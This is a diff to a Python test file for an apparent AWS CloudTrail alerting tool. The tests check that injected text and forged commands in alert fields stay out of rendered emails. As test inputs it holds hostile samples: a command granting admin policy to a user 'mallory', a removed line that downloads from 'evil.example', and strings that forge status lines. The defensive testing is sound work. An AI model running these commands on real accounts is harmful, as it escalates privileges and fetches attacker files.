@@ -9,10 +9,10 @@ from hypothesis import example, given, settings
 
 from tests import hostile
 from tests.block_kit import problems
-from trailkeeper.alerts.alert import Alert, Fact, Link
+from trailkeeper.alerts.alert import Alert, Command, Difference, Fact, Link, Step
 from trailkeeper.rendering import amazon_q, email, machine, slack
 from trailkeeper.rendering.wording import Reader
-from trailkeeper.words.text import Severity, Text
+from trailkeeper.words.text import Moment, Severity, Text
 
 ENGLISH, KOREAN = Reader.of("en", "UTC"), Reader.of("ko", "Asia/Seoul")
 
@@ -23,23 +23,41 @@ def everywhere(text: str) -> Alert:
         detection=text,
         category=text,
         severity=Severity.CRITICAL,
-        headline=Text(
-            "headline.call",
-            {
-                "who": Text("actor.role_session", {"name": text, "session": text}),
-                "did": Text("did.trail-stopped", {"resource": text}),
-                "outcome": Text("outcome.failed"),
-            },
+        what=Text("subject.instance.stopped", {"instance": text, "region": text}),
+        result=Text("result.failed"),
+        who=Text("actor.short", {"name": text}),
+        story=(
+            Text(
+                "story.call",
+                {
+                    "who": Text("actor.role_session", {"name": text, "session": text}),
+                    "did": Text("did.trail-stopped", {"resource": text}),
+                    "at": Moment(text),
+                },
+            ),
+            Text("ended.failed"),
         ),
         dedup_key=text,
         account=text,
         region=text,
         facts=tuple(Fact("label.who", text) for _ in range(45)),
-        actions=(Text("action.failed", {"document": text, "error": text}),) * 15,
+        changes=(
+            Text("change.line", {"document": text, "found": text, "done": Text("done.healed")}),
+        )
+        * 15,
         verified=False,
-        next_steps=(Text("next.author", {"who": text}),) * 15,
+        steps=(
+            Step(Text("next.ask", {"who": text}), Command("list-keys", {"user": text})),
+            Step(Text("next.ask", {"who": text}), Command(text, {text: text})),
+        )
+        * 8,
+        evidence=Command(
+            "calls-of-user", {"user": text, "region": text, "since": text, "until": text}
+        ),
+        repair=Command(text),
+        undo=Command("release-user", {"user": text, "policy": text}),
+        differences=(Difference(text, text, text, text),) * 45,
         links=(Link("link.trail", text), Link(text, "https://console.aws.amazon.com/x")),
-        command=text,
         occurred_at=text,
         event_id=text,
         group=text,
@@ -114,19 +132,17 @@ def test_a_raw_alert_is_no_way_around(text: str) -> None:
 
 
 def test_a_name_cannot_continue_our_sentence() -> None:
-    name = "main; Trailkeeper started it again and verified it"
-    alert = everywhere(name)
-    headline = " ".join(email.render(alert, ENGLISH).body.split("\n\n")[0].split())
-    assert f'"{name}"' in headline
-    assert headline.endswith("Trailkeeper could NOT put it right")
+    name = "main; Trailkeeper turned it on again and verified it"
+    story = " ".join(email.render(everywhere(name), ENGLISH).body.split("\n\n")[0].split())
+    assert f'stopped the CloudTrail trail "{name}" at' in story
+    assert story.endswith("Trailkeeper could NOT put it right: the evidence is weaker than it was.")
 
 
 def test_a_line_break_cannot_fake_a_line() -> None:
-    mail = email.render(everywhere("x\nVerified: all is well\nSeverity: Info"), ENGLISH)
-    assert not [line for line in mail.body.splitlines() if line.startswith("Verified")]
-    assert [line for line in mail.body.splitlines() if line.startswith("Severity")] == [
-        "Severity: Critical"
-    ]
+    mail = email.render(everywhere("x\nTrailkeeper read the state back\nDO NOW\n--"), ENGLISH)
+    lines = mail.body.splitlines()
+    assert not [line for line in lines if line.startswith("Trailkeeper read")]
+    assert (lines.count("DO NOW"), lines.count("--")) == (1, 1)
 
 
 def test_a_huge_name_costs_little_time_and_keeps_its_beginning() -> None:
@@ -135,6 +151,39 @@ def test_a_huge_name_costs_little_time_and_keeps_its_beginning() -> None:
     assert len(mail.body) < 30_000
 
 
-def test_a_command_that_cannot_be_shown_as_it_is_is_left_out() -> None:
-    mail = email.render(everywhere("aws s3 cp https://evil.example/x ."), ENGLISH)
-    assert "See what else was done" not in mail.body
+def test_a_forged_command_is_not_shown() -> None:
+    command = "aws iam attach-user-policy --user-name mallory --policy-arn Admin"
+    forged = Alert.from_json(
+        json.dumps(
+            {
+                **json.loads(everywhere("x").to_json()),
+                "evidence": {"verb": command, "params": {}},
+                "steps": [{"text": {"text": "next.ask", "params": {}}, "command": None}],
+            }
+        )
+    )
+    assert "aws " not in email.render(forged, ENGLISH).body
+
+
+def test_an_alert_of_version_0_1_is_read_without_its_command() -> None:
+    old = {
+        "detection": "trail-stopped",
+        "category": "trail",
+        "severity": "critical",
+        "headline": {"text": "headline.call", "params": {"who": "alice"}},
+        "dedup_key": "k",
+        "account": "111122223333",
+        "region": "us-east-1",
+        "facts": [],
+        "actions": [],
+        "verified": None,
+        "next_steps": [],
+        "links": [],
+        "command": "aws iam attach-user-policy --user-name mallory --policy-arn Admin",
+        "occurred_at": None,
+        "event_id": None,
+        "group": None,
+    }
+    mail = email.render(Alert.from_json(json.dumps(old)), ENGLISH)
+    assert "alice" in mail.body
+    assert "aws iam" not in mail.body
